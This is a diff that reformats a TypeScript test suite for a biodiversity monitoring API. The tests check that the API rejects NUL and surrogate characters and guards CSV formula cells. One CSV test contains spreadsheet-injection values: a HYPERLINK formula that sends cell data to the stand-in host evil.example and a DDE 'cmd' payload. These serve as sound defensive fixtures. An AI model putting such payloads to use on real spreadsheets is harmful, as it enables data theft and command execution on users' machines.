@@ -28,8 +28,16 @@ let department: { authorization: string };
 const NUL = '\u0000';
 const HIGH = '\ud800';
 const LOW = '\udc00';
-const rec = (id: string, extra: Record<string, unknown> = {}) => ({ occurrenceID: id, scientificName: 'Sus scrofa', eventDate: '2025-01-01', decimalLatitude: 43, decimalLongitude: 126, ...extra });
-const count = async (table: string, where = sql`true`) => (await sql<{ n: number }>`SELECT count(*)::int AS n FROM ${sql.table(table)} WHERE ${where}`.execute(t.ctx.db)).rows[0].n;
+const rec = (id: string, extra: Record<string, unknown> = {}) => ({
+  occurrenceID: id,
+  scientificName: 'Sus scrofa',
+  eventDate: '2025-01-01',
+  decimalLatitude: 43,
+  decimalLongitude: 126,
+  ...extra,
+});
+const count = async (table: string, where = sql`true`) =>
+  (await sql<{ n: number }>`SELECT count(*)::int AS n FROM ${sql.table(table)} WHERE ${where}`.execute(t.ctx.db)).rows[0].n;
 
 beforeAll(async () => {
   t = await createTestContext();
@@ -39,8 +47,14 @@ beforeAll(async () => {
   evaluator = await authAs(t, 'evaluator');
   admin = await authAs(t, 'admin');
   const reg = await app.inject({
-    method: 'POST', url: '/v1/stations', headers: admin, payload: {
-      stationId: 'TX-ST', name: '文本站', type: 'weather', location: { type: 'Point', coordinates: [126, 43] },
+    method: 'POST',
+    url: '/v1/stations',
+    headers: admin,
+    payload: {
+      stationId: 'TX-ST',
+      name: '文本站',
+      type: 'weather',
+      location: { type: 'Point', coordinates: [126, 43] },
       datastreams: [
         { datastreamId: 'TX-ST-s', observedProperty: 'note', unitOfMeasurement: { symbol: '' }, resultType: 'string' },
         { datastreamId: 'TX-ST-j', observedProperty: 'detection', unitOfMeasurement: { symbol: '' }, resultType: 'json' },
@@ -83,24 +97,63 @@ describe('batch endpoints: the bad record is rejected, the others are stored (BR
   });
 
   it('POST /v1/occurrences: nothing storable is 422 BATCH_REJECTED naming each record and field; the envelope is checked as a whole', async () => {
-    const res = await app.inject({ method: 'POST', url: '/v1/occurrences', headers: surveyor, payload: { records: [rec(`tx-id${NUL}`), rec('tx-2', { recordedBy: LOW })] } });
+    const res = await app.inject({
+      method: 'POST',
+      url: '/v1/occurrences',
+      headers: surveyor,
+      payload: { records: [rec(`tx-id${NUL}`), rec('tx-2', { recordedBy: LOW })] },
+    });
     expect(res.statusCode).toBe(422);
     expect(res.json().error.code).toBe('BATCH_REJECTED');
-    expect(res.json().error.details.rejected.map((r: { index: number; id: string; errors: { field: string; code: string }[] }) => [r.index, r.id, r.errors.find((e) => e.code === 'TEXT_INVALID_CHARACTER')?.field]))
-      .toEqual([[0, `tx-id${NUL}`, 'occurrenceID'], [1, 'tx-2', 'recordedBy']]);
-    const envelope = await app.inject({ method: 'POST', url: '/v1/occurrences', headers: surveyor, payload: { records: [rec('tx-3')], [`atomic${NUL}`]: true } });
+    expect(
+      res
+        .json()
+        .error.details.rejected.map((r: { index: number; id: string; errors: { field: string; code: string }[] }) => [
+          r.index,
+          r.id,
+          r.errors.find((e) => e.code === 'TEXT_INVALID_CHARACTER')?.field,
+        ]),
+    ).toEqual([
+      [0, `tx-id${NUL}`, 'occurrenceID'],
+      [1, 'tx-2', 'recordedBy'],
+    ]);
+    const envelope = await app.inject({
+      method: 'POST',
+      url: '/v1/occurrences',
+      headers: surveyor,
+      payload: { records: [rec('tx-3')], [`atomic${NUL}`]: true },
+    });
     expect(envelope.statusCode).toBe(422);
-    expect(envelope.json().error).toMatchObject({ code: 'TEXT_INVALID_CHARACTER', details: { errors: [{ field: 'atomic\\u0000', code: 'TEXT_INVALID_CHARACTER' }] } });
+    expect(envelope.json().error).toMatchObject({
+      code: 'TEXT_INVALID_CHARACTER',
+      details: { errors: [{ field: 'atomic\\u0000', code: 'TEXT_INVALID_CHARACTER' }] },
+    });
     expect(await count('occurrences', sql`occurrence_id IN ('tx-2', 'tx-3')`)).toBe(0);
   });
 
   it('POST /v1/survey-events: a batch keeps its good event; one event alone with a NUL is 422 naming the term', async () => {
-    const ev = (id: string, extra: Record<string, unknown> = {}) => ({ eventID: id, eventDate: '2025-06-01', samplingProtocol: 'line transect', decimalLatitude: 43, decimalLongitude: 126, ...extra });
-    const res = await app.inject({ method: 'POST', url: '/v1/survey-events', headers: surveyor, payload: { records: [ev('tx-ev-1'), ev('tx-ev-2', { eventRemarks: `x${NUL}y` }), ev('tx-ev-3', { 'eco:targetTaxonomicScope': [`Aves${HIGH}`] })] } });
+    const ev = (id: string, extra: Record<string, unknown> = {}) => ({
+      eventID: id,
+      eventDate: '2025-06-01',
+      samplingProtocol: 'line transect',
+      decimalLatitude: 43,
+      decimalLongitude: 126,
+      ...extra,
+    });
+    const res = await app.inject({
+      method: 'POST',
+      url: '/v1/survey-events',
+      headers: surveyor,
+      payload: { records: [ev('tx-ev-1'), ev('tx-ev-2', { eventRemarks: `x${NUL}y` }), ev('tx-ev-3', { 'eco:targetTaxonomicScope': [`Aves${HIGH}`] })] },
+    });
     expect(res.statusCode, res.body).toBe(200);
     expect(res.json().inserted).toBe(1);
-    expect(res.json().rejected.map((r: { index: number; errors: { field: string; code: string }[] }) => [r.index, r.errors[0].field, r.errors[0].code]))
-      .toEqual([[1, 'eventRemarks', 'TEXT_INVALID_CHARACTER'], [2, 'eco:targetTaxonomicScope[0]', 'TEXT_INVALID_CHARACTER']]);
+    expect(
+      res.json().rejected.map((r: { index: number; errors: { field: string; code: string }[] }) => [r.index, r.errors[0].field, r.errors[0].code]),
+    ).toEqual([
+      [1, 'eventRemarks', 'TEXT_INVALID_CHARACTER'],
+      [2, 'eco:targetTaxonomicScope[0]', 'TEXT_INVALID_CHARACTER'],
+    ]);
     const single = await app.inject({ method: 'POST', url: '/v1/survey-events', headers: surveyor, payload: ev('tx-ev-4', { habitat: NUL }) });
     expect(single.statusCode).toBe(422);
     expect(single.json().error.details.rejected[0].errors[0]).toMatchObject({ field: 'habitat', code: 'TEXT_INVALID_CHARACTER' });
@@ -109,25 +162,56 @@ describe('batch endpoints: the bad record is rejected, the others are stored (BR
 
   it('POST /v1/stations/{id}/observations: string and json results, datastream ids, JSON and NDJSON', async () => {
     const res = await app.inject({
-      method: 'POST', url: '/v1/stations/TX-ST/observations', headers: station, payload: {
+      method: 'POST',
+      url: '/v1/stations/TX-ST/observations',
+      headers: station,
+      payload: {
         datastreams: [
-          { datastreamId: 'TX-ST-s', components: ['phenomenonTime', 'result'], dataArray: [['2025-01-01T00:00:00Z', 'ok'], ['2025-01-01T01:00:00Z', `bad${NUL}`]] },
-          { datastreamId: 'TX-ST-j', components: ['phenomenonTime', 'result'], dataArray: [['2025-01-01T00:00:00Z', { taxa: ['Sus scrofa', `x${LOW}`] }], ['2025-01-01T01:00:00Z', { [`k${HIGH}`]: 1 }]] },
+          {
+            datastreamId: 'TX-ST-s',
+            components: ['phenomenonTime', 'result'],
+            dataArray: [
+              ['2025-01-01T00:00:00Z', 'ok'],
+              ['2025-01-01T01:00:00Z', `bad${NUL}`],
+            ],
+          },
+          {
+            datastreamId: 'TX-ST-j',
+            components: ['phenomenonTime', 'result'],
+            dataArray: [
+              ['2025-01-01T00:00:00Z', { taxa: ['Sus scrofa', `x${LOW}`] }],
+              ['2025-01-01T01:00:00Z', { [`k${HIGH}`]: 1 }],
+            ],
+          },
           { datastreamId: `TX-ST-s${NUL}`, components: ['phenomenonTime', 'result'], dataArray: [['2025-01-01T02:00:00Z', 'x']] },
         ],
       },
     });
     expect(res.statusCode, res.body).toBe(200);
     expect(res.json().inserted).toBe(1);
-    expect(res.json().rejected.map((r: { datastreamId: string; index: number; errors: { field: string; code: string }[] }) => [r.datastreamId, r.index, r.errors[0].field, r.errors[0].code])).toEqual([
+    expect(
+      res
+        .json()
+        .rejected.map((r: { datastreamId: string; index: number; errors: { field: string; code: string }[] }) => [
+          r.datastreamId,
+          r.index,
+          r.errors[0].field,
+          r.errors[0].code,
+        ]),
+    ).toEqual([
       ['TX-ST-s', 1, 'result', 'TEXT_INVALID_CHARACTER'],
       ['TX-ST-j', 0, 'result.taxa[1]', 'TEXT_INVALID_CHARACTER'],
       ['TX-ST-j', 1, 'result.k\\ud800', 'TEXT_INVALID_CHARACTER'],
       [`TX-ST-s${NUL}`, 0, 'datastreamId', 'TEXT_INVALID_CHARACTER'],
     ]);
     const nd = await app.inject({
-      method: 'POST', url: '/v1/stations/TX-ST/observations', headers: { ...station, 'content-type': 'application/x-ndjson' },
-      payload: ['{"datastreamId":"TX-ST-s","phenomenonTime":"2025-01-02T00:00:00Z","result":"fine"}', '{"datastreamId":"TX-ST-s","phenomenonTime":"2025-01-02T01:00:00Z","result":"\\u0000"}'].join('\n'),
+      method: 'POST',
+      url: '/v1/stations/TX-ST/observations',
+      headers: { ...station, 'content-type': 'application/x-ndjson' },
+      payload: [
+        '{"datastreamId":"TX-ST-s","phenomenonTime":"2025-01-02T00:00:00Z","result":"fine"}',
+        '{"datastreamId":"TX-ST-s","phenomenonTime":"2025-01-02T01:00:00Z","result":"\\u0000"}',
+      ].join('\n'),
     });
     expect(nd.statusCode, nd.body).toBe(200);
     expect(nd.json()).toMatchObject({ inserted: 1, rejected: [{ index: 1, errors: [{ field: 'result', code: 'TEXT_INVALID_CHARACTER' }] }] });
@@ -135,18 +219,71 @@ describe('batch endpoints: the bad record is rejected, the others are stored (BR
 });
 
 describe('other JSON routes: 422 TEXT_INVALID_CHARACTER naming the field, nothing written', () => {
-  const cases: [string, () => Promise<{ statusCode: number; json: () => { error: { code: string; details: { errors: { field: string; code: string }[] } } } }>, string][] = [
-    ['ledger progress note', () => app.inject({ method: 'POST', url: '/v1/ledger/tasks/12/progress', headers: department, payload: { status: 'in_progress', note: `进展${NUL}` } }), 'note'],
-    ['ledger evidence title (unpaired low surrogate)', () => app.inject({ method: 'POST', url: '/v1/ledger/tasks/12/progress', headers: department, payload: { status: 'done', evidence: [{ title: `报告${LOW}`, url: 'https://example.org/r' }] } }), 'evidence[0].title'],
-    ['review comment', () => app.inject({ method: 'POST', url: '/v1/occurrences/tx-ok-1/review', headers: evaluator, payload: { state: 'verified', comment: `ok${HIGH}` } }), 'comment'],
-    ['a property name', () => app.inject({ method: 'POST', url: '/v1/reports', headers: evaluator, payload: { year: 2024, [`re${NUL}gion`]: '220000' } }), 're\\u0000gion'],
+  const cases: [
+    string,
+    () => Promise<{ statusCode: number; json: () => { error: { code: string; details: { errors: { field: string; code: string }[] } } } }>,
+    string,
+  ][] = [
+    [
+      'ledger progress note',
+      () => app.inject({ method: 'POST', url: '/v1/ledger/tasks/12/progress', headers: department, payload: { status: 'in_progress', note: `进展${NUL}` } }),
+      'note',
+    ],
+    [
+      'ledger evidence title (unpaired low surrogate)',
+      () =>
+        app.inject({
+          method: 'POST',
+          url: '/v1/ledger/tasks/12/progress',
+          headers: department,
+          payload: { status: 'done', evidence: [{ title: `报告${LOW}`, url: 'https://example.org/r' }] },
+        }),
+      'evidence[0].title',
+    ],
+    [
+      'review comment',
+      () => app.inject({ method: 'POST', url: '/v1/occurrences/tx-ok-1/review', headers: evaluator, payload: { state: 'verified', comment: `ok${HIGH}` } }),
+      'comment',
+    ],
+    [
+      'a property name',
+      () => app.inject({ method: 'POST', url: '/v1/reports', headers: evaluator, payload: { year: 2024, [`re${NUL}gion`]: '220000' } }),
+      're\\u0000gion',
+    ],
     ['station name', () => app.inject({ method: 'PATCH', url: '/v1/stations/TX-ST', headers: admin, payload: { name: `站${NUL}` } }), 'name'],
     ['alert ack note', () => app.inject({ method: 'POST', url: '/v1/alerts/1/ack', headers: evaluator, payload: { note: NUL } }), 'note'],
     ['export filter', () => app.inject({ method: 'POST', url: '/v1/exports/dwca', headers: surveyor, payload: { taxon: `Panthera${NUL}` } }), 'taxon'],
-    ['layer feature property (geo+json)', () => app.inject({
-      method: 'POST', url: '/v1/layers/protected-areas?year=2025', headers: { ...admin, 'content-type': 'application/geo+json' },
-      payload: JSON.stringify({ type: 'FeatureCollection', features: [{ type: 'Feature', properties: { id: 'T1', name: `保护区${HIGH}`, designation: 'nature_reserve', status: 'designated' }, geometry: { type: 'Polygon', coordinates: [[[126, 42], [126.1, 42], [126.1, 42.1], [126, 42.1], [126, 42]]] } }] }),
-    }), 'features[0].properties.name'],
+    [
+      'layer feature property (geo+json)',
+      () =>
+        app.inject({
+          method: 'POST',
+          url: '/v1/layers/protected-areas?year=2025',
+          headers: { ...admin, 'content-type': 'application/geo+json' },
+          payload: JSON.stringify({
+            type: 'FeatureCollection',
+            features: [
+              {
+                type: 'Feature',
+                properties: { id: 'T1', name: `保护区${HIGH}`, designation: 'nature_reserve', status: 'designated' },
+                geometry: {
+                  type: 'Polygon',
+                  coordinates: [
+                    [
+                      [126, 42],
+                      [126.1, 42],
+                      [126.1, 42.1],
+                      [126, 42.1],
+                      [126, 42],
+                    ],
+                  ],
+                },
+              },
+            ],
+          }),
+        }),
+      'features[0].properties.name',
+    ],
   ];
   for (const [name, send, field] of cases) {
     it(name, async () => {
@@ -162,24 +299,54 @@ describe('other JSON routes: 422 TEXT_INVALID_CHARACTER naming the field, nothin
 
 describe('CSV downloads go through the one writer: formula cells guarded, numbers kept', () => {
   it('GET /v1/downloads/occurrences?format=csv', async () => {
-    const hostile = { recordedBy: '=HYPERLINK("http://evil.example/?"&A1,"click")', locality: '+cmd|\' /C calc\'!A0', occurrenceRemarks: '@SUM(1+1)', identifiedBy: '-2+3' };
-    const res = await app.inject({ method: 'POST', url: '/v1/occurrences', headers: surveyor, payload: { records: [rec('tx-formula', { ...hostile, decimalLatitude: -0.5, decimalLongitude: 126 })] } });
+    const hostile = {
+      recordedBy: '=HYPERLINK("http://evil.example/?"&A1,"click")',
+      locality: "+cmd|' /C calc'!A0",
+      occurrenceRemarks: '@SUM(1+1)',
+      identifiedBy: '-2+3',
+    };
+    const res = await app.inject({
+      method: 'POST',
+      url: '/v1/occurrences',
+      headers: surveyor,
+      payload: { records: [rec('tx-formula', { ...hostile, decimalLatitude: -0.5, decimalLongitude: 126 })] },
+    });
     expect(res.statusCode, res.body).toBe(200);
     const csv = (await app.inject({ method: 'GET', url: '/v1/downloads/occurrences?format=csv', headers: evaluator })).body;
     expect(csv.charCodeAt(0)).toBe(0xfeff);
     const rows = parse(csv.slice(1), { columns: true }) as Record<string, string>[];
     const row = rows.find((r) => r.occurrenceID === 'tx-formula')!;
-    expect({ recordedBy: row.recordedBy, locality: row.locality, occurrenceRemarks: row.occurrenceRemarks, identifiedBy: row.identifiedBy })
-      .toEqual(Object.fromEntries(Object.entries(hostile).map(([k, v]) => [k, `'${v}`])));
+    expect({ recordedBy: row.recordedBy, locality: row.locality, occurrenceRemarks: row.occurrenceRemarks, identifiedBy: row.identifiedBy }).toEqual(
+      Object.fromEntries(Object.entries(hostile).map(([k, v]) => [k, `'${v}`])),
+    );
     expect(row.decimalLatitude).toBe('-0.5');
   });
 });
 
 describe('files read outside a request', () => {
   it('biomon layers import (importLayer): a feature whose property holds a NUL is left out, naming the property; the others are stored', async () => {
-    const square = { type: 'Polygon', coordinates: [[[126, 42], [126.1, 42], [126.1, 42.1], [126, 42.1], [126, 42]]] };
-    const f = (id: string, name: string) => ({ type: 'Feature' as const, properties: { id, name, designation: 'nature_reserve', status: 'designated' }, geometry: square });
-    const r = await importLayer(t.ctx.db, [f('TL-1', '保护区'), f('TL-2', `保护区${NUL}`), { ...f('TL-3', 'x'), properties: { ...f('TL-3', 'x').properties, [`备注${HIGH}`]: 'y' } }], { kind: 'protected-areas', year: 2025 });
+    const square = {
+      type: 'Polygon',
+      coordinates: [
+        [
+          [126, 42],
+          [126.1, 42],
+          [126.1, 42.1],
+          [126, 42.1],
+          [126, 42],
+        ],
+      ],
+    };
+    const f = (id: string, name: string) => ({
+      type: 'Feature' as const,
+      properties: { id, name, designation: 'nature_reserve', status: 'designated' },
+      geometry: square,
+    });
+    const r = await importLayer(
+      t.ctx.db,
+      [f('TL-1', '保护区'), f('TL-2', `保护区${NUL}`), { ...f('TL-3', 'x'), properties: { ...f('TL-3', 'x').properties, [`备注${HIGH}`]: 'y' } }],
+      { kind: 'protected-areas', year: 2025 },
+    );
     expect(r.features).toBe(1);
     expect(r.rejected).toEqual([
       { index: 1, field: 'features[1].properties.name', reason: expect.stringMatching(/NUL/) },
@@ -236,15 +403,21 @@ describe('multipart text', () => {
     const b = 'txb';
     return {
       headers: { 'content-type': `multipart/form-data; boundary=${b}` },
-      payload: Buffer.from(`${extra.replace(/\{b\}/g, b)}--${b}\r\nContent-Disposition: ${disposition}\r\nContent-Type: text/csv\r\n\r\noccurrenceID,scientificName\r\nx,y\r\n\r\n--${b}--\r\n`, 'utf8'),
+      payload: Buffer.from(
+        `${extra.replace(/\{b\}/g, b)}--${b}\r\nContent-Disposition: ${disposition}\r\nContent-Type: text/csv\r\n\r\noccurrenceID,scientificName\r\nx,y\r\n\r\n--${b}--\r\n`,
+        'utf8',
+      ),
     };
   };
   it('a NUL in the file name (raw or RFC 5987 encoded) is 422 naming file.filename; no import is created', async () => {
-    for (const disposition of ['form-data; name="file"; filename="a\u0000.csv"', "form-data; name=\"file\"; filename*=UTF-8''a%00b.csv"]) {
+    for (const disposition of ['form-data; name="file"; filename="a\u0000.csv"', 'form-data; name="file"; filename*=UTF-8\'\'a%00b.csv']) {
       const m = multipart(disposition);
       const res = await app.inject({ method: 'POST', url: '/v1/imports', headers: { ...surveyor, ...m.headers }, payload: m.payload });
       expect(res.statusCode, res.body).toBe(422);
-      expect(res.json().error).toMatchObject({ code: 'TEXT_INVALID_CHARACTER', details: { errors: [{ field: 'file.filename', code: 'TEXT_INVALID_CHARACTER' }] } });
+      expect(res.json().error).toMatchObject({
+        code: 'TEXT_INVALID_CHARACTER',
+        details: { errors: [{ field: 'file.filename', code: 'TEXT_INVALID_CHARACTER' }] },
+      });
     }
     expect(await count('imports')).toBe(0);
   });
